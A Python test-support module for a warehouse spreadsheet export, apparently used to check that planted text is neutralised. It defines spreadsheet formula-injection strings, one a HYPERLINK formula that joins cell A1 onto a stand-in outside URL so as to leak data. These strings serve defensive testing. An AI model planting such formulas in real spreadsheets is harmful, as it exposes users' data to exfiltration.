"""Reading what was exported, and the texts that were planted in it.

Belongs here: that. Does not: the homes (conftest.py), what must be true (the tests).
"""

from __future__ import annotations

from decimal import Decimal
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

from warehouse.wording import Wording

FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"bấm vào đây")'
UNIT = '=HYPERLINK("http://example.invalid/","Bộ")'
FILE = "=HYPERLINK(1)_2023_BYT_tham_dinh.xlsx"
WORDS = Wording()


def table_of(sheet: Worksheet) -> tuple[list[str], list[list[Any]]]:
    """The headings and rows of a sheet: its filter says where they are."""
    cells = sheet[sheet.auto_filter.ref]
    return [cell.value for cell in cells[0]], [[cell.value for cell in row] for row in cells[1:]]


def exact(value: Any) -> Decimal | None:
    """A figure as the warehouse has it, eight decimals."""
    return None if value is None else Decimal(str(value)).quantize(Decimal("0.00000001"))
